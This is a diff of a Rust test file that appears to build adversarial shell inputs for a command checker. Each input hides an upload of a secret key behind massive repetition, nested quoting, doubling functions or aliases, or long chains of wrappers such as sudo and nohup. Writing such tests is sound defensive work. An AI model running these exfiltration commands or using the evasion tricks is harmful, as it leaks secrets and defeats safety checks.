@@ -37,8 +37,18 @@ fn hostile() -> Vec<(&'static str, String)> {
         ("nesting behind quoted closers", format!("{}{UPLOAD} -H 'x: {KEY}'", "if true; then echo fi 'fi' \"done\"; ".repeat(3000))),
         ("cat of a written file, many times", format!("cat > f <<EOF\n{}\nEOF\n{}{UPLOAD} -H 'x: {KEY}'", "x".repeat(100_000), "cat f; ".repeat(5000))),
         ("script run many times", format!("cat > s.sh <<EOF\n{}\nEOF\n{}{UPLOAD} -H 'x: {KEY}'", "echo hi; ".repeat(10_000), "bash s.sh; ".repeat(2000))),
-        ("function calls doubling", format!("{}f40() {{ echo $1; }}; {}{UPLOAD} -H 'x: {KEY}'", (0..40).map(|i| format!("f{i}() {{ f{} a; f{} b; }}; ", i + 1, i + 1)).collect::<String>(), "f0 x; ".repeat(20_000))),
-        ("alias doubling", format!("{}alias a40='echo x'; a0; {UPLOAD} -H 'x: {KEY}'", (0..40).map(|i| format!("alias a{i}='a{}; a{}'; ", i + 1, i + 1)).collect::<String>())),
+        (
+            "function calls doubling",
+            format!(
+                "{}f40() {{ echo $1; }}; {}{UPLOAD} -H 'x: {KEY}'",
+                (0..40).map(|i| format!("f{i}() {{ f{} a; f{} b; }}; ", i + 1, i + 1)).collect::<String>(),
+                "f0 x; ".repeat(20_000)
+            ),
+        ),
+        (
+            "alias doubling",
+            format!("{}alias a40='echo x'; a0; {UPLOAD} -H 'x: {KEY}'", (0..40).map(|i| format!("alias a{i}='a{}; a{}'; ", i + 1, i + 1)).collect::<String>()),
+        ),
     ];
     for w in ["nice ", "env ", "sudo ", "xargs ", "command ", "nohup ", "timeout 5 ", "stdbuf -o0 ", "time ", "exec ", "builtin ", "xargs -I{} "] {
         cases.push(("wrapper chain", format!("{}{UPLOAD} -H 'x: {KEY}'", w.repeat(5000))));
